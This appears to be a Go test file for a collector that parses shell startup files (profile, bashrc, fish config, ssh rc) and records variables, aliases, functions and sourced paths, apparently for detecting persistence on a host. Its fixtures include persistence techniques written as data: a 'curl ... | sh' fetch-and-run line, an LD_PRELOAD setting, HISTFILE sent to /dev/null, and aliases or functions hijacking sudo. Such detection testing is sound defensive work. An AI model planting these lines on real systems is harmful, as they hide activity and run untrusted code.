package persistence

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

func TestStartupLinesSayWhatTheySet(t *testing.T) {
	cases := map[string]string{ // variable=value, alias, function, sourced
		`export PATH="/a b:$PATH" # x`:           "PATH=/a b:$PATH,,,",
		"HISTFILE=/dev/null":                     "HISTFILE=/dev/null,,,",
		"PATH+=:/x;ls":                           "PATH=:/x,,,",
		"setenv LD_PRELOAD /tmp/x.so":            "LD_PRELOAD=/tmp/x.so,,,",
		"set -gx EDITOR vim":                     "EDITOR=vim,,,",
		"declare -x A=1":                         "A=1,,,",
		`alias sudo='/tmp/x "a b"' b=c`:          `=/tmp/x "a b",sudo,,`,
		"alias ll ls -l":                         "=ls,ll,,",
		"alias -g G=grep":                        "=grep,G,,",
		"function sudo() {":                      "=,,sudo,",
		"sudo () {":                              "=,,sudo,",
		"my-func(){ x; }":                        "=,,my-func,",
		`. "$HOME/.cargo/env"`:                   "=,,,$HOME/.cargo/env",
		"source /tmp/x;":                         "=,,,/tmp/x",
		"if [ -f x ]; then":                      "=,,,",
		"builtin alias x=y":                      "=y,x,,",
		`A="it's \" here" B`:                     `A=it's \" here,,,`,
		"command_not_found_handle() { python; }": "=,,command_not_found_handle,",
		"1x=":                                    "1x=,,,",
		"a b=c":                                  "=,,,",
	}
	for line, want := range cases {
		l := parseStartupLine(line)
		if got := fmt.Sprintf("%s=%s,%s,%s,%s", l.Variable, l.Value, l.Alias, l.Function, l.Sourced); got != want {
			t.Errorf("%q: %s, want %s", line, got, want)
		}
	}
}

func TestStartupFilesOfSystemSkelAndHomesAreRecordedLineByLine(t *testing.T) {
	root := tree(t, map[string]string{
		"/etc/passwd":                      "root:x:0:0::/root:/bin/bash\nbob:x:1000:1000::/home/bob:/bin/bash\n",
		"/etc/profile":                     "# c\nif true; then\n  A=1\nfi\n",
		"/etc/profile.d/x.sh":              "curl http://x \\\n | sh\n",
		"/etc/skel/.bashrc":                "alias ll='ls -l'\n",
		"/home/bob/.bashrc":                "alias ll='ls -l'\nHISTFILE=/dev/null\n",
		"/home/old/.ssh/rc":                "run\n",
		"/home/CORP/ann/.ssh/rc":           "run\n",
		"/home/old/backup/.ssh/rc":         "run\n",
		"/root/.config/fish/conf.d/a.fish": "set -gx A b\n",
		"/root/.zshrc":                     "|",
	})
	must(t, os.Lchown(filepath.Join(root, "home/bob/.bashrc"), 1001, 1001))

	var records []seen
	within(t, func() { records, _ = run(t, startupCollector(), root) })

	equal(t, strings.Join(column(records, "text"), ";"), "if true; then;A=1;curl http://x  | sh;alias ll='ls -l';set -gx A b;alias ll='ls -l';HISTFILE=/dev/null;run;run")
	equal(t, find(t, records, "path", "/etc/profile.d/x.sh").show("line_number", "scope", "username", "uid", "shell", "event", "is_foreign_owner"), "1|system|<nil>|<nil>|sh|login|<nil>")
	equal(t, find(t, records, "text", "HISTFILE=/dev/null").show("line_number", "scope", "username", "uid", "is_stock", "variable", "value", "is_foreign_owner", "file_uid"),
		"2|user|bob|1000|false|HISTFILE|/dev/null|true|1001")
	equal(t, find(t, records, "path", "/home/bob/.bashrc").show("is_stock", "alias"), "true|ll")
	equal(t, find(t, records, "path", "/home/CORP/ann/.ssh/rc").show("username", "uid"), "ann|<nil>")
	for _, r := range records {
		if r.show("path") == "/home/old/backup/.ssh/rc" {
			t.Error("what lies in a home is taken for one")
		}
	}
	equal(t, find(t, records, "path", "/home/old/.ssh/rc").show("username", "uid", "shell", "is_foreign_owner"), "old|<nil>|ssh|<nil>")
	equal(t, find(t, records, "variable", "A").show("path"), "/etc/profile")
}

func TestAStartupFileWithTooManyLinesSaysSo(t *testing.T) {
	root := tree(t, map[string]string{"/etc/profile": strings.Repeat("x\n", maxLines+5)})

	records, status := run(t, startupCollector(), root)

	limited(t, status, "shell_startup")
	if len(records) != maxLines {
		t.Errorf("%d", len(records))
	}
}

// FuzzStartupLine holds the parser to: no panic, and names without blanks.
func FuzzStartupLine(f *testing.F) {
	for _, s := range []string{"export A='b", "alias a=\"b\\\"\"", "function f{", "x() {", "set -", ". ", "alias -", "a\\=b"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, line string) {
		if l := parseStartupLine(line); strings.ContainsAny(l.Variable+l.Function, " \t") {
			t.Errorf("%+v", l)
		}
		isIdle(line)
	})
}
